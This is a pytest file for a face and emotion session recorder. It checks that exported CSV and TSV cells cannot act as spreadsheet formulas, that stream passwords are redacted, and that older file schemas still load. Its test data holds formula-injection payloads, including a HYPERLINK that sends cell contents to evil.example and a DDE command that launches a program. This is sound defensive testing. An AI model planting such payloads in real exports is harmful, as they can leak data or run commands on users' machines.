import csv
import dataclasses
import json
import re
import warnings
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.errors import SessionError
from core.session import (
    EVENT_TYPES,
    HEADER,
    SessionRecorder,
    events_path,
    file_facts,
    load_session,
    sidecar_path,
)
from core.session.format import guarded, unguarded
from core.settings import Settings
from core.sources import SourceInfo
from core.texts import one_line, without_secrets
from tests.support.engine import INFO, make_analysis, make_card

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "a,=1+1",
    "a;=1+1",
    'a";=1+1;"',
    '"',
    "'=1+1",
    "''",
    "plain",
    "Ünï ☺",
    "n",
]


def record(path, **changes) -> SessionRecorder:
    options = {"source": INFO, "settings": Settings(), "cards": [make_card("emotion")]}
    return SessionRecorder(path, **{**options, **changes})


def is_formula(cell: str) -> bool:
    return cell.strip("\ufeff\u200b \t\r\n\u00a0")[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("separators", ["\t", "\t,", "\t;", "\t,;"])
def test_no_spreadsheet_finds_a_formula_however_it_parts_the_cells(tmp_path, separators):
    session = record(tmp_path / "a.csv")
    for number, text in enumerate(HOSTILE):
        session.event("marker", text)
        session.event(text, "a type of one's own")
        session.name_face(number, text)
    session.close()
    text = events_path(tmp_path / "a.csv").read_text(encoding="utf-8")
    cells = [cell for line in text.splitlines() for cell in parted(line, separators)]
    assert len(cells) >= 4 * len(HOSTILE)
    assert [cell for cell in cells if is_formula(cell)] == []


def parted(line: str, separators: str) -> list[str]:
    """As a spreadsheet does it that was told to part cells at several characters."""
    cells, cell, quoted = [], "", False
    for character in line:
        if character == '"':
            quoted = not quoted
        elif character in separators and not quoted:
            cells.append(cell)
            cell = ""
        else:
            cell += character
    return [*cells, cell]


def test_hostile_texts_come_back_as_they_were(tmp_path):
    session = record(tmp_path / "a.csv")
    for text in HOSTILE:
        session.event("marker", text)
    read = load_session(session.close())
    assert [event["value"] for event in read.events] == [one_line(text) for text in HOSTILE]
    table = pd.read_csv(events_path(tmp_path / "a.csv"), sep="\t", keep_default_na=False)
    assert len(table) == len(HOSTILE)
    assert [unguarded(value) for value in table.value] == [one_line(text) for text in HOSTILE]


@given(st.text())
def test_any_text_is_guarded_and_comes_back(text):
    cell = guarded(text)
    assert not is_formula(cell)
    assert not set(cell) & set("\t\r\n\0")
    assert unguarded(cell) == one_line(text)
    cell.encode()


def test_a_camera_with_a_hostile_name_is_only_a_name(tmp_path):
    name = '=HYPERLINK("http://evil.example")'
    source = SourceInfo(name=name, kind="camera", width=64, height=48, rate=30.0, live=True)
    session = record(tmp_path / "a.csv", source=source)
    session.write(make_analysis(0))
    session.change_source(source)
    read = load_session(session.close())
    assert read.sidecar["source"]["name"] == name
    assert read.events[0]["value"].startswith(name)
    for path in (tmp_path / "a.csv", events_path(tmp_path / "a.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            delimiter = "," if path.suffix == ".csv" else "\t"
            cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
        assert not any(is_formula(cell) for cell in cells)


@pytest.mark.parametrize(
    "address",
    [
        "rtsp://anna:s3cret@camera.example/stream",
        "rtsp://:s3cret@camera.example/stream",
        "rtsp://anna:p@s3cret/x@camera.example/stream",
        "http://camera.example/video?user=anna&password=s3cret",
        "rtsp://camera.example/user=anna&pwd=s3cret&channel=1",
    ],
)
def test_the_password_of_an_address_is_in_no_file(tmp_path, address):
    source = SourceInfo(name=address, kind="stream", width=64, height=48, rate=25.0, live=True)
    session = record(tmp_path / "a.csv", source=source)
    session.event("marker", f"now {address} again")
    session.give_consent(f"For {address}")
    session.name_face(1, address)
    session.change_source(source)
    session.close()
    contents = [path.read_text(encoding="utf-8") for path in tmp_path.iterdir()]
    assert len(contents) == 3
    assert not any("s3cret" in content for content in contents)
    assert sum("camera.example" in content for content in contents) == 2


def test_texts_without_passwords_stay():
    facts = {"a": ["see http://x.example/?q=1", "10:30 @ lab"], "b": 1.5, "c": None}
    assert without_secrets(facts) == facts


def test_a_source_whose_name_is_no_text_is_recorded(tmp_path):
    source = SourceInfo(name="caf\udce9", kind="file", width=4, height=4, rate=1.0, live=False)
    session = record(tmp_path / "a.csv", source=source)
    session.name_face(1, "\udce9")
    assert load_session(session.close()).sidecar["source"]["name"] == r"caf\xe9"


PICTURES = ["a.png", "=1+1.png", "a, b.png", 'say "hi".png', "caf\udce9.png", "'.png", "ü ☺.png"]


def test_the_names_of_pictures_are_harmless_and_come_back(tmp_path):
    session = record(tmp_path / "a.csv", started_ns=0)
    for index, name in enumerate(PICTURES):
        faces = (1, 2) if index == 0 else ()
        session.write(dataclasses.replace(make_analysis(index, faces=faces), file=name))
    read = load_session(session.close())
    names = [one_line(name) for name in PICTURES]
    assert read.columns["file"].tolist() == [names[0], *names]
    cells = pd.read_csv(tmp_path / "a.csv").file.tolist()
    assert not any(is_formula(cell) for cell in cells)
    assert [unguarded(cell) for cell in cells] == [names[0], *names]
    assert read.sidecar["frames_without_face"] == len(PICTURES) - 1


def test_a_folder_has_no_facts_and_a_missing_file_is_one_sentence(tmp_path):
    assert file_facts(tmp_path) == {}
    with pytest.raises(SessionError, match="cannot be read"):
        file_facts(tmp_path / "none.mp4")


OLD_HEADER = HEADER[: HEADER.index("file")]
SCHEMA_1 = {
    "a.csv": ",".join(OLD_HEADER)
    + "\r\n0,0.000000,2026-01-02T03:04:05.000Z,1,10.00,5.00,20.00,24.00,0.9000"
    + ",0.100000" * 14
    + ",happy,0.800000"
    + ",0.250000" * 4
    + ",adult,0.800000\r\n"
    + "1,0.033333,2026-01-02T03:04:05.033Z"
    + "," * (len(OLD_HEADER) - 3)
    + "\r\n",
    "a.json": json.dumps({"schema_version": 1, "ended": "stopped", "rows": 2}),
    "a_events.tsv": "onset\tduration\ttrial_type\tvalue\n"
    '1.000000\t0.000000\tmarker\t"open\n'
    "2.000000\t0.000000\tmarker\t'quoted'\n"
    "3.000000\t1.500000\tcamera_gap\tn/a\n",
}


SCHEMA_2 = {
    **SCHEMA_1,
    "a.json": json.dumps({"schema_version": 2, "ended": "stopped", "rows": 2}),
    "a_events.tsv": "onset\tduration\ttrial_type\tvalue\n"
    '1.000000\t0.000000\tmarker\t"""open"\n'
    "2.000000\t0.000000\tmarker\t''quoted'\n"
    "3.000000\t1.500000\tcamera_gap\tn/a\n",
}


@pytest.mark.parametrize("files", [SCHEMA_1, SCHEMA_2], ids=["1", "2"])
def test_recordings_of_older_schemas_are_read(tmp_path, files):
    for name, text in files.items():
        (tmp_path / name).write_bytes(text.encode())
    read = load_session(tmp_path / "a.csv")
    assert read.columns["file"].tolist() == ["", ""]
    assert read.columns["emotion"].tolist() == ["happy", ""]
    assert read.columns["face_id"].tolist()[0] == 1
    assert [event["value"] for event in read.events] == ['"open', "'quoted'", ""]


def test_a_recording_is_read_without_its_companions_and_with_a_byte_order_mark(tmp_path):
    session = record(tmp_path / "a.csv")
    session.write(make_analysis(0))
    session.close()
    path = tmp_path / "a.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    sidecar_path(path).unlink()
    events_path(path).write_bytes(b"\xff\xfe")
    read = load_session(path)
    assert (len(read), read.sidecar, read.events) == (1, {}, [])
    assert pd.DataFrame(read.columns).emotion.tolist() == ["happy"]


def test_the_examples_of_the_page_about_the_files_work(tmp_path, monkeypatch):
    page = Path(__file__).resolve().parents[3] / "docs" / "recording-format.md"
    text = page.read_text(encoding="utf-8")
    session = record(tmp_path / "name.csv")
    for index in range(4):
        session.write(make_analysis(index, faces=(1, 2) if index else ()))
    session.event("marker", "=start")
    session.name_face(2, "Ada")
    session.close()
    monkeypatch.chdir(tmp_path)
    found: dict[str, pd.DataFrame] = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)  # the page opens the sidecar in one line
        exec(re.search(r"```python\n(.*?)```", text, re.S)[1], found)
    assert found["share"].loc[(1.0, "happy")] == 1
    assert found["names"].dropna().unique().tolist() == ["Ada"]
    assert found["markers"].value.tolist() == ["=start"]
    # Every event and every key of the sidecar is on the page.
    for key in (*EVENT_TYPES, *load_session("name.csv").sidecar):
        assert f"`{key}`" in text, key
